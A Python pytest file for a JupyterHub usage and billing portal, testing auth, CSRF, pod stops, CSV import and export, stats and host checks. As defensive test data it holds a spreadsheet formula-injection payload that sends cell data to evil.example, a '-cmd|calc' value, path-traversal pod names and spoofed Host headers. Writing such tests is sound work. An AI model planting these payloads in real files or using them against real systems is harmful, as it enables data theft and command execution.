"""API behaviour: auth/CSRF, stops (hub API + fallback, forged targets), users import, stats, sessions.

Kubernetes is the real control plane (kube.py): the pods are real, the portal acts as its own
ServiceAccount with the portal role's RBAC. The hub here is the FAKE hub of tests/fakes.py (error
cases, recorded calls); the same OAuth login and hub-API stop against a REAL JupyterHub process are
in tests/integration/test_hub_oauth_real.py.
"""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from urllib.parse import parse_qs, urlsplit

import pytest
from pydantic import ValidationError
from sqlalchemy import select, text

from testlib import AUTH, assign_terms, running_app, wait_for
from kube import singleuser_pod
from labhub_portal.auth import CSRF_COOKIE, SESSION_COOKIE
from labhub_portal.billing_terms import RatePeriod
from labhub_portal.config import Settings
from labhub_portal.db.models import AuditLog, ContainerSession, Department, User
from labhub_portal.stats_service import python_stats, sql_stats

UTC = dt.timezone.utc


def documented(app, method: str, path: str) -> set[int]:
    """The statuses the OpenAPI document lists for an operation."""
    return {int(code) for code in app.openapi()["paths"][path][method.lower()]["responses"]}


def _mutating_routes(app):
    for path, item in app.openapi()["paths"].items():
        for method in item:
            if method in ("post", "put", "delete", "patch"):
                yield method.upper(), path.replace("{name}", "physics")


async def test_every_mutating_route_refuses_without_auth(settings_factory, tx_sessionmaker):
    async with running_app(settings_factory(), sessionmaker=tx_sessionmaker) as (app, client):
        routes = list(_mutating_routes(app))
        assert {("POST", "/api/pods/stop"), ("POST", "/api/pod-report-sync"), ("POST", "/api/users/import"),
                ("PUT", "/api/departments/physics"), ("POST", "/logout")} <= set(routes)
        for method, path in routes:
            for headers in ({}, {"Authorization": "Bearer wrong-token-wrong-token"}, {"Authorization": "Basic eDp5"}):
                resp = await client.request(method, path, headers=headers, json={"pods": ["jupyter-x"]})
                assert resp.status_code in (401, 403), (method, path, headers, resp.status_code)
                assert resp.status_code in documented(app, method, path.replace("physics", "{name}")), (method, path)
        # reads need auth too; health endpoints do not
        assert (await client.get("/api/sessions")).status_code == 401
        assert (await client.get("/healthz")).status_code == 200
        # every operation documents the statuses the shared layers give it (apidocs.common_responses)
        for path, item in app.openapi()["paths"].items():
            for method, operation in item.items():
                codes = {int(c) for c in operation["responses"]}
                assert 400 in codes, (method, path)  # Host not allowed
                if operation.get("security"):
                    assert 401 in codes and (method == "get" or 403 in codes), (method, path, codes)
                if "requestBody" in operation:
                    assert 413 in codes, (method, path)
        resp = await client.get("/api/stats", headers={**AUTH, "Host": "attacker.example"})
        assert resp.status_code == 400 and 400 in documented(app, "GET", "/api/stats")
        async with tx_sessionmaker() as s:
            assert (await s.execute(select(AuditLog))).scalars().all() == []


async def test_stop_goes_through_hub_api_and_is_audited(kube, hub, settings_factory, tx_sessionmaker):
    pods = kube.start(singleuser_pod("alice"), singleuser_pod("bob", "big"))
    assert set(pods) == {"jupyter-alice", "jupyter-bob--big"}
    settings = settings_factory(hub_api_url=hub.api_url, hub_api_token=hub.API_TOKEN)
    async with running_app(settings, sessionmaker=tx_sessionmaker) as (app, client):
        resp = await client.post("/api/pods/stop", json={"pods": ["jupyter-alice", "jupyter-bob--big"]}, headers=AUTH)
        assert resp.status_code == 200, resp.text
        body = resp.json()
        assert body["stopped"] == 2 and body["refused"] == 0
        assert [r["method"] for r in body["results"]] == ["hub", "hub"]
        assert [d["path"] for d in hub.deletes] == ["/hub/api/users/alice/server", "/hub/api/users/bob/servers/big"]
        assert all(d["authorization"] == f"token {hub.API_TOKEN}" for d in hub.deletes)
        # the hub stops them (202: later); the portal deleted no pod: both still there, not terminating
        for name, pod in pods.items():
            now = kube.pod(name)
            assert now is not None and now["metadata"]["uid"] == pod["metadata"]["uid"]
            assert "deletionTimestamp" not in now["metadata"]
        async with tx_sessionmaker() as s:
            audit = (await s.execute(select(AuditLog).order_by(AuditLog.id))).scalars().all()
        assert [(a.actor, a.action, a.target, a.result) for a in audit] == [
            ("token:token", "stop_server", f"{kube.name}/jupyter-alice", "stopping"),
            ("token:token", "stop_server", f"{kube.name}/jupyter-bob--big", "stopping")]


async def test_stop_falls_back_to_pod_deletion(kube, hub, settings_factory, tx_sessionmaker):
    """The hub fails: the portal deletes the pod itself, as its ServiceAccount (the role's Role grants it)."""
    carol = kube.start(singleuser_pod("carol"))["jupyter-carol"]
    hub.delete_status = 500
    settings = settings_factory(hub_api_url=hub.api_url, hub_api_token=hub.API_TOKEN)
    async with running_app(settings, sessionmaker=tx_sessionmaker) as (app, client):
        resp = await client.post("/api/pods/stop", json={"pods": ["jupyter-carol"]}, headers=AUTH)
        result = resp.json()["results"][0]
        assert result["result"] == "deleted" and result["method"] == "pod-delete", result
        assert "hub API failed" in result["detail"]
        assert len(hub.deletes) == 1
        after = kube.pod("jupyter-carol")  # gone, or terminating (graceful deletion) until KWOK finishes it
        assert after is None or (after["metadata"]["uid"] == carol["metadata"]["uid"]
                                 and after["metadata"].get("deletionTimestamp")), after
        assert wait_for(lambda: kube.pod("jupyter-carol") is None, timeout=30)
        # once it is gone, a second stop finds no such single-user pod
        resp = await client.post("/api/pods/stop", json={"pods": ["jupyter-carol"]}, headers=AUTH)
        assert resp.json()["results"][0]["result"] == "refused"


async def test_forged_stop_targets_are_refused(kube, settings_factory, tx_sessionmaker):
    other = kube.other_namespace("staging")
    hub_pod = singleuser_pod("hub", component="hub")
    hub_pod["metadata"]["name"] = "hub-5f7c8d9b4-abcde"
    proxy_pod = singleuser_pod("proxy", component="proxy")
    proxy_pod["metadata"]["name"] = "proxy-7b9d8c6f5-xyz12"
    kube.start(singleuser_pod("alice"), hub_pod, proxy_pod)
    mallory = kube.create_pod(singleuser_pod("mallory"), namespace="kube-system")
    kube.create_pod(singleuser_pod("other"), namespace=other)
    async with running_app(settings_factory(), sessionmaker=tx_sessionmaker) as (app, client):
        targets = ["hub-5f7c8d9b4-abcde", "proxy-7b9d8c6f5-xyz12", mallory, "jupyter-other", "jupyter-nobody"]
        resp = await client.post("/api/pods/stop", json={"pods": targets}, headers=AUTH)
        assert resp.status_code == 200
        assert [r["result"] for r in resp.json()["results"]] == ["refused"] * 5
        # nothing was deleted anywhere
        for name, namespace in (("hub-5f7c8d9b4-abcde", None), ("proxy-7b9d8c6f5-xyz12", None),
                                (mallory, "kube-system"), ("jupyter-other", other), ("jupyter-alice", None)):
            pod = kube.pod(name, namespace)
            assert pod is not None and "deletionTimestamp" not in pod["metadata"], (namespace, name)
        # names that could escape the path are rejected by validation (422, field named)
        for bad in ["../hub", "kube-system/jupyter-x", "JUPYTER", "", "a" * 254]:
            resp = await client.post("/api/pods/stop", json={"pods": [bad]}, headers=AUTH)
            assert resp.status_code == 422 and resp.json()["detail"][0]["field"].startswith("pods")
        async with tx_sessionmaker() as s:
            results = (await s.execute(select(AuditLog.result))).scalars().all()
        assert results == ["refused"] * 5


async def test_oauth_login_cookie_session_and_csrf(kube, hub, settings_factory, tx_sessionmaker):
    hub.users = {"admin1": {"admin": True, "groups": []}, "staff": {"admin": False, "groups": ["billing"]},
                 "student": {"admin": False, "groups": ["students"]}}
    kube.start(singleuser_pod("student"))
    settings = settings_factory(hub_api_url=hub.api_url, hub_api_token=hub.API_TOKEN, admin_group="billing",
                                base_url="http://portal.test")
    async with running_app(settings, sessionmaker=tx_sessionmaker) as (app, client):
        async def login(user: str):
            client.cookies.clear()
            resp = await client.get("/login", params={"next": "/api/usage"})
            assert resp.status_code == 302
            target = urlsplit(resp.headers["location"])
            query = parse_qs(target.query)
            assert target.path == "/hub/api/oauth2/authorize"
            assert query["client_id"] == ["service-labhub-portal"]
            assert query["redirect_uri"] == ["http://portal.test/oauth_callback"]
            hub.codes["code-" + user] = user
            return await client.get("/oauth_callback", params={"code": "code-" + user, "state": query["state"][0]})

        resp = await login("student")
        assert resp.status_code == 403  # neither admin nor in the group
        resp = await login("staff")
        assert resp.status_code == 302 and resp.headers["location"] == "/api/usage"
        set_cookie = resp.headers.get_list("set-cookie")
        assert any(SESSION_COOKIE in c and "HttpOnly" in c and "SameSite=strict" in c for c in set_cookie)
        assert (await client.get("/api/usage")).status_code == 200  # cookie session works for reads
        # forged state is refused
        hub.codes["c2"] = "admin1"
        assert (await client.get("/oauth_callback", params={"code": "c2", "state": "forged"})).status_code == 400
        # mutating with the cookie but without the CSRF header -> 403, nothing stopped
        resp = await client.post("/api/pods/stop", json={"pods": ["jupyter-student"]})
        assert resp.status_code == 403 and "CSRF" in resp.json()["detail"]
        resp = await client.post("/api/pods/stop", json={"pods": ["jupyter-student"]},
                                 headers={"X-CSRF-Token": "guess"})
        assert resp.status_code == 403
        assert hub.deletes == []
        csrf = client.cookies.get(CSRF_COOKIE)
        resp = await client.post("/api/pods/stop", json={"pods": ["jupyter-student"]}, headers={"X-CSRF-Token": csrf})
        assert resp.status_code == 200 and resp.json()["stopped"] == 1
        async with tx_sessionmaker() as s:
            actor = (await s.execute(select(AuditLog.actor))).scalar_one()
        assert actor == "hub:staff"
        # a tampered cookie is not a session
        client.cookies.set(SESSION_COOKIE, client.cookies.get(SESSION_COOKIE)[:-2] + "00")
        assert (await client.get("/api/usage")).status_code == 401


async def test_users_import_all_or_nothing(settings_factory, tx_sessionmaker):
    async with running_app(settings_factory(), sessionmaker=tx_sessionmaker) as (app, client):
        bad = ("username,department,display_name\nalice,Physics,Alice\n,Physics,\nbob,,Bob\nalice,Chem,dup\n"
               "carol,(none),Carol\n")
        resp = await client.post("/api/users/import", files={"file": ("users.csv", bad, "text/csv")}, headers=AUTH)
        assert resp.status_code == 422
        errors = [(e["row"], e["field"]) for e in resp.json()["detail"]]
        assert errors == [(3, "username"), (4, "department"), (5, "username"), (6, "department")]
        assert "reserved" in resp.json()["detail"][-1]["msg"]
        # "(none)" is the filter for users without a department: no department may take the name
        resp = await client.put("/api/departments/(none)", json={}, headers=AUTH)
        assert resp.status_code == 422 and resp.json()["detail"][0]["field"] == "name", resp.text
        async with tx_sessionmaker() as s:
            assert (await s.execute(select(User))).scalars().all() == []
            assert (await s.execute(select(Department))).scalars().all() == []
        resp = await client.post("/api/users/import", files={"file": ("u.csv", b"name,dept\nx,y\n")}, headers=AUTH)
        assert resp.status_code == 422 and {e["field"] for e in resp.json()["detail"]} == {"username", "department"}
        resp = await client.post("/api/users/import", files={"file": ("u.csv", b"\xff\xfe")}, headers=AUTH)
        assert resp.status_code == 422 and resp.json()["detail"][0]["field"] == "file"
        good = "\ufeffusername,department,display_name\nalice,Physics,Alice Chen\nbob,Chemistry,\n"
        resp = await client.post("/api/users/import", files={"file": ("users.csv", good.encode())}, headers=AUTH)
        assert resp.status_code == 200, resp.text
        assert resp.json() == {"created": 2, "updated": 0, "departments_created": 2, "rows": 2, "sessions_rebilled": 0}
        resp = await client.post("/api/users/import", files={"file": ("u.csv", b"username,department\nbob,Physics\n")},
                                 headers=AUTH)
        assert resp.json()["updated"] == 1
        deps = (await client.get("/api/departments", headers=AUTH)).json()
        assert {d["name"]: d["users"] for d in deps} == {"Chemistry": 0, "Physics": 2}


async def _seed_sessions(maker, now):
    async with maker() as s:
        async with s.begin():
            phys = Department(name="Physics", cpu_core_hour_rate=2, gpu_hour_rate=50, memory_gib_hour_rate=None,
                              gpu_model_rates={"A100": "80"})
            s.add(phys)
            await s.flush()
            s.add_all([User(username="alice", department_id=phys.id), User(username="bob")])
            seq = iter(range(1, 100))

            def sess(uid, user, start, end, cpu, gpu, mem_gib, model=None, unobserved=0.0, last_seen=None):
                return ContainerSession(pod_uid=uid, pod_name=f"jupyter-{uid}", server_name="", namespace="jhub",
                                        username=user, image="img", cpu_request=cpu, gpu_request=gpu, gpu_limit=gpu,
                                        memory_request=int(mem_gib * 2**30), gpu_model=model, started_at=start,
                                        first_seen_at=start, last_seen_at=last_seen or end or now, ended_at=end,
                                        end_reason="pod_gone" if end else None, unobserved_seconds=unobserved,
                                        change_seq=next(seq), created_at=now, updated_at=now)
            day = dt.timedelta(days=1)
            s.add_all([
                sess("a1", "alice", now - 3 * day, now - 3 * day + dt.timedelta(hours=30), 2, 1, 8, "A100"),
                sess("a2", "alice", now - dt.timedelta(hours=5), None, 4, 0, 16),
                sess("b1", "bob", now - 10 * day, now - 9 * day, 1, 2, 4, "T4", unobserved=3600),
                sess("b2", "bob", now - dt.timedelta(hours=2), None, 1, 0, 2,
                     last_seen=now - dt.timedelta(minutes=30)),  # open but unobserved for 30 min
                sess("c1", "carol", now - 40 * day, now - 39 * day, 8, 4, 64, "H100"),
            ])
            await s.flush()
            await assign_terms(s, now, {"alice": phys.id}, {phys.id: RatePeriod(Decimal(2), Decimal(50), None,
                                                                                 {"A100": "80"})})


@pytest.mark.parametrize("group_by", ["total", "user", "department", "day", "month"])
async def test_stats_sql_matches_reference_arithmetic(group_by, pg_server, settings_factory, tx_sessionmaker):
    settings = settings_factory()
    now = dt.datetime.now(UTC).replace(microsecond=0)
    await _seed_sessions(tx_sessionmaker, now)
    lo, hi = now - dt.timedelta(days=45), now
    async with tx_sessionmaker() as s:
        expected = await python_stats(s, settings, group_by, lo, hi, now)
        got = await sql_stats(s, settings, group_by, lo, hi, now)
    assert [r["key"] for r in got] == [r["key"] for r in expected]
    for g, e in zip(got, expected):
        for field in ("hours", "cpu_core_hours", "gpu_hours", "memory_gib_hours", "cost"):
            assert g[field] == pytest.approx(e[field], abs=0.02), (g["key"], field)
        assert g["sessions"] == e["sessions"]


async def test_stats_and_usage_api(settings_factory, tx_sessionmaker):
    settings = settings_factory(record_interval=30)
    now = dt.datetime.now(UTC).replace(microsecond=0)
    await _seed_sessions(tx_sessionmaker, now)
    async with running_app(settings, sessionmaker=tx_sessionmaker) as (app, client):
        resp = await client.get("/api/stats", params={"group_by": "user", "from": (now - dt.timedelta(days=45)).isoformat(),
                                                      "to": now.isoformat()}, headers=AUTH)
        assert resp.status_code == 200
        rows = {r["key"]: r for r in resp.json()["rows"]}
        # a1: 30 h x 1 A100 at the department's A100 rate 80 -> 2400 for GPUs, 30 h x 2 cores x 2 -> 120 CPU
        # a2 ongoing: 5 h x 4 cores x 2 = 40 CPU; memory uses the default rate 0.2/GiB-h
        mem = (30 * 8 + 5 * 16) * 0.2
        assert rows["alice"]["gpu_hours"] == pytest.approx(30)
        assert rows["alice"]["cpu_core_hours"] == pytest.approx(80, abs=0.01)
        assert rows["alice"]["cost"] == pytest.approx(2400 + 120 + 40 + mem, abs=0.1)
        # b1: 24 h span minus 1 h unobserved = 23 h x 2 GPUs; b2 open but last seen 30 min ago: billed 1.5 h + 90 s
        assert rows["bob"]["gpu_hours"] == pytest.approx(46)
        assert rows["bob"]["hours"] == pytest.approx(23 + 1.5 + 90 / 3600, abs=0.01)
        assert resp.json()["from"].endswith("+08:00")
        days = (await client.get("/api/stats", params={"group_by": "day", "from": "2026-01-01", "to": "2026-01-03"},
                                 headers=AUTH)).json()["rows"]
        assert [d["key"] for d in days] == ["2026-01-01", "2026-01-02"]
        for params in ({"from": "2026-01-02", "to": "2026-01-01"}, {"from": "0001-01-01T00:00:00"},
                       {"group_by": "week"}, {"user": "a\x00b"}, {"from": "9999-12-31T23:59:59"}):
            resp = await client.get("/api/stats", params=params, headers=AUTH)
            assert resp.status_code == 422, (params, resp.status_code, resp.text)
        # numbers are Unix seconds to pydantic: 0.5 would be a moment in 1970; times are ISO 8601 only
        for field, value in (("from", "0.5"), ("from", "2026"), ("to", "1700000000"), ("to", "-1e3")):
            resp = await client.get("/api/stats", params={field: value}, headers=AUTH)
            assert resp.status_code == 422, (field, value, resp.text)
            assert resp.json()["detail"][0]["loc"] == ["query", field] and "ISO 8601" in resp.json()["detail"][0]["msg"]
        usage = (await client.get("/api/usage", headers=AUTH)).json()
        assert usage["active_sessions"] == 2 and usage["timezone"] == "Asia/Taipei"
        assert usage["now"].endswith("+08:00")


async def test_sessions_filters_pagination_and_csv(settings_factory, tx_sessionmaker):
    now = dt.datetime.now(UTC).replace(microsecond=0)
    await _seed_sessions(tx_sessionmaker, now)
    async with running_app(settings_factory(), sessionmaker=tx_sessionmaker) as (app, client):
        async def get(**params):
            resp = await client.get("/api/sessions", params=params, headers=AUTH)
            assert resp.status_code == 200, resp.text
            return resp.json()

        assert get and (await get())["total"] == 5
        assert [i["pod_uid"] for i in (await get(user="alice"))["items"]] == ["a2", "a1"]
        assert {i["pod_uid"] for i in (await get(department="Physics"))["items"]} == {"a1", "a2"}
        assert {i["pod_uid"] for i in (await get(department="(none)"))["items"]} == {"b1", "b2", "c1"}
        assert [i["pod_uid"] for i in (await get(q="H100"))["items"]] == ["c1"]
        assert (await get(q="100%_"))["total"] == 0  # LIKE wildcards are literal
        assert {i["pod_uid"] for i in (await get(state="running"))["items"]} == {"a2", "b2"}
        window = await get(**{"from": (now - dt.timedelta(days=11)).isoformat(),
                              "to": (now - dt.timedelta(days=8)).isoformat()})
        assert [i["pod_uid"] for i in window["items"]] == ["b1"]
        page = await get(page=2, page_size=2)
        assert page["pages"] == 3 and len(page["items"]) == 2 and page["page"] == 2
        resp = await client.get("/api/sessions", params={"format": "csv", "user": "bob"}, headers=AUTH)
        assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
        lines = resp.text.strip().splitlines()
        assert lines[0].startswith("id,pod_uid,pod_name") and len(lines) == 3
        assert "+08:00" in lines[1]
        for bad in ({"page": 0}, {"page_size": 501}, {"state": "x"}, {"q": "a" * 300}):
            assert (await client.get("/api/sessions", params=bad, headers=AUTH)).status_code == 422


async def test_csv_export_streams_every_row_and_defuses_formulas(settings_factory, tx_sessionmaker, monkeypatch):
    """All matching rows (fetched a few at a time: no silent cut), and text cells starting like a
    spreadsheet formula (=, +, -, @) prefixed with an apostrophe; numbers stay numbers."""
    import csv
    import io

    from labhub_portal.api import sessions as sessions_api

    monkeypatch.setattr(sessions_api, "CSV_FETCH", 100)
    monkeypatch.setattr(sessions_api, "CSV_CHUNK", 4096)
    now = dt.datetime.now(UTC).replace(microsecond=0)
    async with tx_sessionmaker() as s:
        async with s.begin():
            dept = Department(name="+Physics")
            s.add(dept)
            await s.flush()
            s.add(User(username="mallory", display_name='=HYPERLINK("http://evil.example/?"&A1,"x")',
                       department_id=dept.id))
            s.add_all([ContainerSession(
                department_id=dept.id,
                pod_uid=f"u{i}", pod_name=f"jupyter-u{i}", server_name="@SUM(1)" if i == 0 else "", namespace="jhub",
                username="mallory", image="-cmd|calc" if i == 0 else "img", cpu_request=1, gpu_request=0,
                gpu_limit=0, memory_request=2**30, started_at=now - dt.timedelta(hours=2, seconds=i),
                first_seen_at=now - dt.timedelta(hours=2), last_seen_at=now - dt.timedelta(hours=1),
                ended_at=now - dt.timedelta(hours=1), end_reason="pod_gone", unobserved_seconds=0,
                change_seq=i + 1, created_at=now, updated_at=now) for i in range(1050)])
    async with running_app(settings_factory(), sessionmaker=tx_sessionmaker) as (_app, client):
        resp = await client.get("/api/sessions", params={"format": "csv"}, headers=AUTH)
        assert resp.status_code == 200
        rows = list(csv.DictReader(io.StringIO(resp.text)))
    assert len(rows) == 1050 and len({r["pod_uid"] for r in rows}) == 1050
    first = next(r for r in rows if r["pod_uid"] == "u0")
    assert first["display_name"] == """'=HYPERLINK("http://evil.example/?"&A1,"x")"""
    assert first["department"] == "'+Physics" and first["image"] == "'-cmd|calc" and first["server_name"] == "'@SUM(1)"
    assert first["cpu_request"] == "1.0" or first["cpu_request"] == "1"
    assert float(first["hours"]) == pytest.approx(1.0, abs=0.01)


async def test_request_bodies_over_the_limit_get_413_and_change_nothing(settings_factory, tx_sessionmaker):
    """max_request_bytes: a declared (Content-Length) or streamed (chunked) body over it is refused
    with 413 naming the body, before the route acts; a body within it still works."""
    limit = 64 * 1024
    big = b"username,department\n" + b"".join(b"user%06d,Physics\n" % i for i in range(6000))
    assert len(big) > limit
    async with running_app(settings_factory(max_request_bytes=limit), sessionmaker=tx_sessionmaker) as (_app, client):
        resp = await client.post("/api/users/import", files={"file": ("users.csv", big, "text/csv")}, headers=AUTH)
        assert resp.status_code == 413, resp.text
        assert resp.json()["detail"][0]["field"] == "body" and str(limit) in resp.json()["detail"][0]["msg"]

        form = (b'--x\r\nContent-Disposition: form-data; name="file"; filename="users.csv"\r\n'
                b"Content-Type: text/csv\r\n\r\n" + big + b"\r\n--x--\r\n")

        async def chunks():  # no Content-Length: the limit counts what arrives
            for start in range(0, len(form), 8192):
                yield form[start:start + 8192]
        resp = await client.post("/api/users/import", content=chunks(), headers={
            **AUTH, "Content-Type": "multipart/form-data; boundary=x"})
        assert resp.status_code == 413, resp.text
        resp = await client.post("/api/users/import", content=b"{}", headers={**AUTH, "Content-Length": "-1"})
        assert resp.status_code in (400, 413), resp.text
        async with tx_sessionmaker() as s:
            assert (await s.execute(select(User))).scalars().all() == []
        ok = await client.post("/api/users/import", files={"file": ("u.csv", b"username,department\nbob,Physics\n")},
                               headers=AUTH)
        assert ok.status_code == 200, ok.text


async def test_only_allowed_host_names_are_served(settings_factory, tx_sessionmaker):
    """DNS rebinding: a page on evil.example resolving to the portal's address sends Host: evil.example;
    it gets 400 on every route (no page, no CSRF token, no stop); loopback, the base URL's host and
    PORTAL_ALLOWED_HOSTS (exact or *.domain) are served."""
    from labhub_portal.hosts import allowed_hosts, host_allowed, host_name

    settings = settings_factory(base_url="https://hub.lab.example/services/labhub-portal",
                                allowed_hosts="portal.test, *.cluster.lab.example")
    allowed = allowed_hosts(settings)
    for header, ok in (("127.0.0.1:8780", True), ("[::1]:8780", True), ("LOCALHOST", True),
                       ("hub.lab.example", True), ("hub.lab.example:443", True), ("n1.cluster.lab.example", True),
                       ("cluster.lab.example.evil.example", False), ("evil.example", False),
                       ("hub.lab.example.evil.example", False), ("", False), ("[::1", False)):
        assert host_allowed(host_name(header), allowed) is ok, header
    async with running_app(settings, sessionmaker=tx_sessionmaker) as (_app, client):
        for method, path in (("GET", "/usage"), ("GET", "/api/sessions"), ("POST", "/api/pods/stop"),
                             ("GET", "/healthz")):
            resp = await client.request(method, path, headers={**AUTH, "Host": "evil.example:8780"})
            assert resp.status_code == 400, (path, resp.status_code)
            assert resp.json()["detail"][0]["field"] == "host" and "PORTAL_ALLOWED_HOSTS" in resp.text
            assert "csrf" not in resp.headers.get("set-cookie", "").lower()
        assert (await client.get("/api/sessions", headers=AUTH)).status_code == 200  # Host: portal.test
        assert (await client.get("/healthz", headers={"Host": "127.0.0.1:8780"})).status_code == 200


def test_settings_refuse_unsafe_combinations(monkeypatch):
    base = {"_env_file": None, "database_url": "postgresql://u@localhost/db"}
    with pytest.raises(ValidationError, match="neither PORTAL_TOKEN nor JupyterHub OAuth"):
        Settings(**base, bind_host="0.0.0.0")
    Settings(**base, bind_host="127.0.0.1")  # loopback without auth is allowed
    with pytest.raises(ValidationError, match="default or short secret"):
        Settings(**base, token="changeme")
    with pytest.raises(ValidationError, match="default or short secret"):
        Settings(**base, token="short")
    with pytest.raises(ValidationError, match="cookie_secret"):
        Settings(**base, hub_api_url="http://hub:8081/hub/api", hub_api_token="x" * 32)
    # the hub service token is shared with the jupyterhub role, which requires 32 characters
    with pytest.raises(ValidationError, match="hub_api_token: .*at least 32"):
        Settings(**base, hub_api_url="http://hub:8081/hub/api", hub_api_token="h0123456789abcdef0123456",
                 cookie_secret="c" * 32)
    with pytest.raises(ValidationError, match="SQLite"):
        Settings(_env_file=None, database_url="sqlite:///x.db")
    demo = Settings(_env_file=None, database_url="sqlite:///x.db", demo=True, token="demo")
    assert demo.database_url == "sqlite+aiosqlite:///x.db"
    s = Settings(**base, token="t" * 20, bind_host="0.0.0.0")
    assert s.database_url.startswith("postgresql+asyncpg://") and s.zone.key == "Asia/Taipei"
    with pytest.raises(ValidationError, match="time zone"):
        Settings(**base, timezone="Mars/Olympus")
    monkeypatch.setenv("PORTAL_RECORD_INTERVAL", "15")
    monkeypatch.setenv("PORTAL_MYSQL_URL", "mysql://r:p@db:3307/jupyterhub")
    s = Settings(**base)
    assert s.record_interval == 15 and s.mysql_target.port == 3307 and s.mysql_target.database == "jupyterhub"


async def test_migrations_from_empty(pg_server):
    """Alembic upgrade from an empty database creates the schema; downgrade removes it."""
    import asyncio

    from labhub_portal.db.migrate import downgrade, upgrade
    from sqlalchemy.ext.asyncio import create_async_engine

    pg_server.createdb("migrate_check")
    url = pg_server.url("migrate_check")
    await asyncio.to_thread(upgrade, url)
    engine = create_async_engine(url)
    async with engine.connect() as conn:
        tables = set((await conn.execute(text(
            "SELECT tablename FROM pg_tables WHERE schemaname = 'public'"))).scalars())
    assert {"departments", "users", "container_sessions", "audit_log", "sync_watermarks", "alembic_version"} <= tables
    def _diff(sync_conn):
        from alembic.autogenerate import compare_metadata
        from alembic.migration import MigrationContext

        from labhub_portal.db.models import Base

        return compare_metadata(MigrationContext.configure(sync_conn), Base.metadata)

    async with engine.connect() as conn:
        assert await conn.run_sync(_diff) == []  # the migration matches the models exactly
    await asyncio.to_thread(downgrade, url, "base")
    async with engine.connect() as conn:
        left = set((await conn.execute(text(
            "SELECT tablename FROM pg_tables WHERE schemaname = 'public'"))).scalars())
    await engine.dispose()
    assert left == {"alembic_version"}


async def test_loopback_without_auth_still_needs_csrf_for_writes(settings_factory, tx_sessionmaker):
    settings = settings_factory(token=None, cookie_secret=None, bind_host="127.0.0.1")
    assert not settings.auth_configured
    async with running_app(settings, sessionmaker=tx_sessionmaker) as (app, client):
        assert (await client.get("/api/usage")).status_code == 200  # local user may read
        files = {"file": ("u.csv", b"username,department\nalice,Physics\n")}
        resp = await client.post("/api/users/import", files=files)
        assert resp.status_code == 403 and "CSRF" in resp.json()["detail"]
        client.cookies.set(CSRF_COOKIE, "a-random-token-value")
        resp = await client.post("/api/users/import", files=files, headers={"X-CSRF-Token": "another-value"})
        assert resp.status_code == 403
        resp = await client.post("/api/users/import", files=files, headers={"X-CSRF-Token": "a-random-token-value"})
        assert resp.status_code == 200
        async with tx_sessionmaker() as s:
            assert (await s.execute(select(AuditLog.actor))).scalar_one() == "local:local"


async def test_database_outage_answers_503_naming_postgresql_and_pods_still_work(kube, settings_factory):
    """PostgreSQL not answering (here: nothing listens on its port): every route that needs it answers
    503 naming it, JSON for the API and a page for browsers, never a bare 500; the pods, which come
    from the cluster, are still listed (without departments and costs)."""
    from servers import free_port
    from labhub_portal.outages import is_database_outage

    kube.start(singleuser_pod("alice"))
    settings = settings_factory(database_url=f"postgresql+asyncpg://portal:pw-canary@127.0.0.1:{free_port()}/portal")
    async with running_app(settings) as (app, client):
        for path in ("/api/stats", "/api/usage", "/api/sessions", "/api/departments"):
            resp = await client.get(path, headers=AUTH)
            assert resp.status_code == 503, (path, resp.status_code, resp.text)
            assert "PostgreSQL" in resp.json()["detail"] and resp.json()["unavailable"] == ["postgresql"]
            assert resp.headers["retry-after"] == "10" and "pw-canary" not in resp.text
            assert 503 in documented(app, "GET", path)
        resp = await client.get("/usage", headers={**AUTH, "Accept": "text/html"})
        assert resp.status_code == 503 and resp.headers["content-type"].startswith("text/html")
        assert "Usage database unavailable" in resp.text and "PostgreSQL" in resp.text and "/pods" in resp.text
        pods = await client.get("/api/pods", headers=AUTH)
        assert pods.status_code == 200 and [p["pod_name"] for p in pods.json()["pods"]] == ["jupyter-alice"]
        page = await client.get("/pods", headers={**AUTH, "Accept": "text/html"})
        assert page.status_code == 200 and "jupyter-alice" in page.text
        assert "Usage database (PostgreSQL) unavailable" in page.text
        assert (await client.get("/healthz")).status_code == 200
        ready = await client.get("/readyz")
        assert ready.status_code == 503 and ready.json()["checks"]["database"].startswith("error")
    # an OSError of the portal's own (not raised inside the driver) is not an outage: it stays a 500
    try:
        raise ConnectionRefusedError("not the database")
    except ConnectionRefusedError as exc:
        assert not is_database_outage(exc)
